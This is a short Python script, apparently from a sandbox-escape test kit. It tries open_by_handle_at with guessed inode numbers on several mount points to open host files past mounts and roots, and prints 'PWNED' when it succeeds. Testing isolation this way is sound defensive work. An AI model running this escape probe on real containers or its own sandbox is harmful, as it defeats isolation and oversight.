"""Open files of the machine by their inode number, past all mounts and roots.

Shows: PWNED on stdout.
"""

import os
import struct

from kit import ctypes, pwned, syscall, told

for place in (b"/", b"/usr", b"/lib", b".", b"/proc"):
    try:
        mount = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        mount = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.create_string_buffer(8)
    named = syscall("name_to_handle_at", -100, place, handle, number, 0)
    if named >= 0:
        print(place, "has a handle")
    for inode in (2, 11, 128, 256):
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
        opened = syscall("open_by_handle_at", mount, handle, os.O_RDONLY)
        if opened >= 0:
            pwned(place, inode)
    print(place, told(opened))
